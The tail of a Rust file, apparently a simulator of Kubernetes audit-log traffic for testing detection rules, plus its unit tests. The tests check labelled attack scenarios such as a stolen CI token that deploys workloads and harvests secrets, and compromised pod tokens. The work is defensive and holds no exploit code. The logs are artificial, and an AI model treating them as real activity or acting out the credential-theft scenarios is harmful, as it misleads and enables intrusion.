        let day = (minute / MINUTES_PER_DAY) as u32;
        let hour = minute / 60 % 24;
        let working = (8..18).contains(&hour) && is_working_day(day);
        for i in 0..MACHINE_CALLS_PER_MINUTE {
            let at = second + i * 60 / MACHINE_CALLS_PER_MINUTE;
            let e = machine_action(&mut w, &mut rng, &apps, at);
            w.write(&e)?;
        }
        while plan.rollouts.get(apps.len() - APPS.len()) == Some(&minute) {
            let app = NEW_APPS[apps.len() - APPS.len()];
            rollout(&mut w, &mut rng, &app, second + 10)?;
            apps.push(app);
        }
        // People, in working hours, once they have joined.
        if working {
            for (p, habits) in PEOPLE.iter().zip(&plan.habits) {
                if day >= habits.joins && rng.chance(250) {
                    let at = second + 1 + rng.below(58);
                    let e = person_action(&mut w, &mut rng, p, habits.caller(p, day), at);
                    w.write(&e)?;
                }
            }
        }
        let quiet = day < config.quiet_days;
        if !quiet && (rng.below(1_000_000) as f64) < per_minute_attack * 1_000_000.0 {
            attack(&mut w, &mut rng, &plan.habits, day, second + 30)?;
        }
    }
    Ok(w.summary)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn simulate(seed: u64, days: u32) -> (String, Vec<Value>) {
        let config = SimulationConfig {
            seed,
            days,
            attacks_per_day: 15.0,
            quiet_days: 2,
        };
        let (mut out, mut labels) = (Vec::new(), Vec::new());
        run(&config, &mut out, &mut labels).unwrap();
        let labels = String::from_utf8(labels)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        (String::from_utf8(out).unwrap(), labels)
    }

    #[test]
    fn the_same_seed_gives_the_same_traffic_and_another_seed_other_traffic() {
        let (a, la) = simulate(7, 4);
        let (b, lb) = simulate(7, 4);
        assert_eq!(a, b);
        assert_eq!(la, lb);
        assert_ne!(simulate(8, 4).0, a);
    }

    #[test]
    fn labels_name_attack_events_after_the_quiet_days_and_cover_every_technique() {
        let (events, labels) = simulate(3, 8);
        let events: Vec<Value> = events
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let by_id: std::collections::HashMap<&str, &Value> = events
            .iter()
            .map(|e| (e["auditID"].as_str().unwrap(), e))
            .collect();
        assert_eq!(by_id.len(), events.len(), "audit IDs are unique");
        let normalizer = peregrine_rules_sdk::normalize::Normalizer::new("sim");
        for e in events.iter().step_by(97) {
            normalizer.event_from_value(e).expect("a valid audit event");
        }
        let quiet_end = timestamp(2 * 24 * 3600);
        for label in &labels {
            let event = by_id[label["auditId"].as_str().unwrap()];
            normalizer
                .event_from_value(event)
                .expect("a valid audit event");
            assert_eq!(event["user"]["username"], label["user"]);
            assert!(label["time"].as_str().unwrap() >= quiet_end.as_str());
        }
        for (technique, _) in ATTACKS {
            assert!(
                labels.iter().any(|l| l["attack"] == technique),
                "{technique}"
            );
        }
        // Mostly ordinary traffic.
        assert!(
            labels.len() * 1000 < events.len(),
            "{} of {}",
            labels.len(),
            events.len()
        );
    }

    /// One simulation (seed 3, 8 days, 2 quiet), parsed once for the tests below.
    fn sample() -> &'static (Vec<Value>, Vec<Value>) {
        static SAMPLE: std::sync::OnceLock<(Vec<Value>, Vec<Value>)> = std::sync::OnceLock::new();
        SAMPLE.get_or_init(|| {
            let (events, labels) = simulate(3, 8);
            let events = events
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect();
            (events, labels)
        })
    }

    /// The sample's events that are not attacks.
    fn benign() -> Vec<&'static Value> {
        let (events, labels) = sample();
        let attacks: std::collections::HashSet<&str> = labels
            .iter()
            .map(|l| l["auditId"].as_str().unwrap())
            .collect();
        events
            .iter()
            .filter(|e| !attacks.contains(text(e, "/auditID")))
            .collect()
    }

    fn text<'a>(e: &'a Value, pointer: &str) -> &'a str {
        e.pointer(pointer)
            .and_then(Value::as_str)
            .unwrap_or_default()
    }

    fn user(e: &Value) -> &str {
        text(e, "/user/username")
    }

    fn ip(e: &Value) -> &str {
        text(e, "/sourceIPs/0")
    }

    fn agent(e: &Value) -> &str {
        text(e, "/userAgent")
    }

    fn time(e: &Value) -> &str {
        text(e, "/requestReceivedTimestamp")
    }

    fn resource(e: &Value) -> &str {
        text(e, "/objectRef/resource")
    }

    fn day_start(day: u64) -> String {
        timestamp(day * 24 * 3600)
    }

    /// `linux/amd64` of `kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819`.
    fn platform(agent: &str) -> &str {
        agent.split(['(', ')']).nth(1).unwrap_or_default()
    }

    #[test]
    fn people_have_their_own_networks_inside_the_benign_ranges_and_attackers_not() {
        let offices: std::collections::HashSet<_> = PEOPLE.iter().map(|p| p.office).collect();
        assert_eq!(offices.len(), PEOPLE.len(), "an office IP each");
        for p in &PEOPLE {
            assert!(p.office.starts_with("198.51.100."), "{}", p.name);
            assert!(
                p.home.is_none_or(|h| h.starts_with("203.0.113.")),
                "{}",
                p.name
            );
            assert!(p.upgraded.starts_with("kubectl/"));
            assert_eq!(platform(p.agent), platform(p.upgraded), "{}", p.name);
        }
        for network in ATTACKER_NETWORKS {
            for benign in ["198.51.100.", "203.0.113.", "192.0.2.", "10."] {
                assert!(!network.starts_with(benign), "{network}");
            }
        }
        let (events, _) = sample();
        let per_day = events.len() / 8;
        assert!(
            (30_000..40_000).contains(&per_day),
            "{per_day} events a day"
        );
    }

    #[test]
    fn people_upgrade_kubectl_and_work_from_home_and_now_and_then_from_a_hotel() {
        let events = benign();
        let quiet_end = day_start(2);
        let mut hotel_days = std::collections::HashMap::new();
        let mut home_in_quiet_days = false;
        for p in PEOPLE.iter().filter(|p| !p.new_hire) {
            let theirs: Vec<&Value> = events
                .iter()
                .copied()
                .filter(|e| user(e) == p.name)
                .collect();
            let last_old = theirs
                .iter()
                .filter(|e| agent(e) == p.agent)
                .map(|e| time(e))
                .max();
            let first_new = theirs
                .iter()
                .filter(|e| agent(e) == p.upgraded)
                .map(|e| time(e))
                .min();
            assert!(
                last_old.is_some() && first_new.is_some(),
                "{} upgrades",
                p.name
            );
            assert!(last_old < first_new, "{} upgrades once", p.name);
            for e in &theirs {
                let ip = ip(e);
                if ip.starts_with("192.0.2.") {
                    hotel_days
                        .entry(ip)
                        .or_insert_with(std::collections::HashSet::new)
                        .insert((p.name, &time(e)[..10]));
                } else {
                    assert!(ip == p.office || Some(ip) == p.home, "{} from {ip}", p.name);
                    home_in_quiet_days |= Some(ip) == p.home && time(e) < quiet_end.as_str();
                }
            }
        }
        assert!(
            home_in_quiet_days,
            "working from home is a habit from the start"
        );
        assert!(!hotel_days.is_empty(), "someone travels");
        for (network, days) in &hotel_days {
            assert_eq!(days.len(), 1, "{network} is one person's one day");
        }
        let after_quiet = hotel_days
            .values()
            .flatten()
            .any(|(_, day)| *day >= &quiet_end[..10]);
        assert!(after_quiet, "a trip after the quiet days");
    }

    #[test]
    fn a_new_hire_joins_after_the_quiet_days_from_the_office_with_the_team_kubectl() {
        let events = benign();
        let hire = PEOPLE.iter().find(|p| p.new_hire).unwrap();
        let theirs: Vec<&Value> = events
            .iter()
            .copied()
            .filter(|e| user(e) == hire.name)
            .collect();
        assert!(!theirs.is_empty());
        let joined = day_start(3);
        for e in &theirs {
            assert!(time(e) >= joined.as_str(), "{}", time(e));
            assert_eq!((ip(e), agent(e)), (hire.office, TEAM_KUBECTL));
            assert_eq!(text(e, "/objectRef/namespace"), "web");
            let exec = text(e, "/objectRef/subresource") == "exec";
            assert!(exec || ["get", "list"].contains(&text(e, "/verb")), "{e}");
        }
        assert!(
            theirs
                .iter()
                .any(|e| text(e, "/objectRef/subresource") == "exec")
        );
    }

    #[test]
    fn every_anomaly_domain_has_benign_traffic_during_the_quiet_days() {
        let (events, labels) = sample();
        assert!(
            labels
                .iter()
                .all(|l| l["time"].as_str().unwrap() >= day_start(2).as_str())
        );
        let quiet_end = day_start(2);
        let quiet: Vec<&Value> = events
            .iter()
            .filter(|e| time(e) < quiet_end.as_str())
            .collect();
        let person = |e: &Value| PEOPLE.iter().any(|p| p.name == user(e));
        let kubelet_secret = |e: &Value| {
            let node = user(e).strip_prefix("system:node:").unwrap_or_default();
            resource(e) == "secrets" && !node.is_empty() && ip(e) == node_ip(node)
        };
        type Is<'a> = &'a dyn Fn(&Value) -> bool;
        let domains: [(&str, Is); 9] = [
            ("a person reads a secret", &|e| {
                person(e) && resource(e) == "secrets"
            }),
            ("a kubelet reads a pod's secret", &kubelet_secret),
            ("a person binds a role", &|e| {
                person(e) && resource(e) == "rolebindings"
            }),
            ("a person execs", &|e| {
                person(e) && text(e, "/objectRef/subresource") == "exec"
            }),
            ("the deployer writes a Role", &|e| {
                user(e) == DEPLOYER && resource(e) == "roles"
            }),
            ("the deployer deploys", &|e| {
                user(e) == DEPLOYER && resource(e) == "deployments"
            }),
            ("the node agent", &|e| {
                user(e) == DEPLOYER && resource(e) == "daemonsets"
            }),
            ("a person deploys", &|e| {
                person(e) && resource(e) == "deployments"
            }),
            ("a person checks a permission", &|e| {
                person(e) && resource(e) == "selfsubjectaccessreviews"
            }),
        ];
        for (domain, is) in domains {
            assert!(quiet.iter().any(|e| is(e)), "{domain}");
        }
        // The node agent is privileged and mounts /proc and /sys, as rules will see it.
        let node_agent = quiet.iter().find(|e| resource(e) == "daemonsets").unwrap();
        assert!(
            text(node_agent, "/requestURI")
                .starts_with("/apis/apps/v1/namespaces/monitoring/daemonsets/")
        );
        let normalized = peregrine_rules_sdk::normalize::Normalizer::new("sim")
            .event_from_value(node_agent)
            .unwrap();
        let Some(peregrine_rules_sdk::ObjectView::Workload(workload)) =
            normalized.object.map(|o| o.view)
        else {
            panic!("the DaemonSet decodes as a workload");
        };
        assert_eq!(workload.kind, "DaemonSet");
        assert_eq!(
            workload.containers[0].security_context.privileged,
            Some(true)
        );
        let paths: Vec<_> = workload
            .volumes
            .iter()
            .filter_map(|v| v.host_path.as_deref())
            .collect();
        assert_eq!(paths, ["/proc", "/sys"]);
        assert!(
            workload.containers[0]
                .volume_mounts
                .iter()
                .all(|m| m.read_only)
        );
    }

    #[test]
    fn the_deployer_rolls_out_new_applications_and_ops_admin_writes_cluster_roles() {
        let events = benign();
        let known: Vec<String> = APPS.iter().map(App::repository).collect();
        let new_app = events.iter().find(|e| {
            let image = text(e, "/responseObject/spec/template/spec/containers/0/image");
            let repository = image.split(':').next().unwrap_or_default();
            user(e) == DEPLOYER
                && resource(e) == "deployments"
                && !known.iter().any(|k| k == repository)
        });
        let new_app = new_app.expect("a new application");
        assert_eq!(new_app["responseStatus"]["code"], 201);
        assert!(
            text(
                new_app,
                "/responseObject/spec/template/spec/containers/0/image"
            )
            .starts_with("registry.example.com/")
        );
        let cluster_role = events
            .iter()
            .any(|e| user(e) == "ops-admin@example.com" && resource(e) == "clusterroles");
        assert!(cluster_role, "ops-admin writes a ClusterRole");
    }

    #[test]
    fn a_stolen_ci_token_is_used_from_an_attacker_network_to_deploy_and_read_secrets() {
        let (events, labels) = sample();
        let by_id: std::collections::HashMap<&str, &Value> =
            events.iter().map(|e| (text(e, "/auditID"), e)).collect();
        for label in labels.iter().filter(|l| !is_app_account(l)) {
            let e = by_id[label["auditId"].as_str().unwrap()];
            assert!(ATTACKER_NETWORKS.contains(&ip(e)), "{e}");
            assert!(ATTACKER_AGENTS.contains(&agent(e)), "{e}");
        }
        let stolen: Vec<&Value> = labels.iter().filter(|l| l["user"] == DEPLOYER).collect();
        assert!(!stolen.is_empty(), "the CI token is stolen");
        for label in stolen {
            let attack = label["attack"].as_str().unwrap();
            assert!(
                attack == "secrets-harvest" || attack.ends_with("-workload"),
                "{attack}"
            );
        }
    }

    fn is_app_account(label: &Value) -> bool {
        APPS.iter()
            .any(|a| label["user"] == format!("system:serviceaccount:{}:{}", a.namespace, a.name))
    }

    #[test]
    fn a_compromised_application_pod_uses_its_token_from_the_nodes_subnets_with_a_kubectl_or_curl()
    {
        let (events, labels) = sample();
        let by_id: std::collections::HashMap<&str, &Value> =
            events.iter().map(|e| (text(e, "/auditID"), e)).collect();
        let from_pods: Vec<&Value> = labels.iter().filter(|l| is_app_account(l)).collect();
        for label in labels {
            let credential = label["credential"].as_str().unwrap();
            assert_eq!(credential == "pod-token", is_app_account(label), "{label}");
            assert_eq!(
                credential == "ci-token",
                label["user"] == DEPLOYER,
                "{label}"
            );
        }
        assert!(
            from_pods.len() * 8 > labels.len() && from_pods.len() * 2 < labels.len(),
            "{} of {} attacks from pods",
            from_pods.len(),
            labels.len()
        );
        for label in &from_pods {
            let e = by_id[label["auditId"].as_str().unwrap()];
            let subnet = ip(e).rsplit_once('.').unwrap().0;
            assert!(
                NODES
                    .iter()
                    .any(|n| node_ip(n).starts_with(&format!("{subnet}."))),
                "{e}"
            );
            assert!(IN_POD_AGENTS.contains(&agent(e)), "{e}");
        }
        // Nothing benign uses an application's token: the accounts are new to every rule.
        for e in benign() {
            let account = json!({"user": user(e)});
            assert!(!is_app_account(&account), "{e}");
        }
    }
}
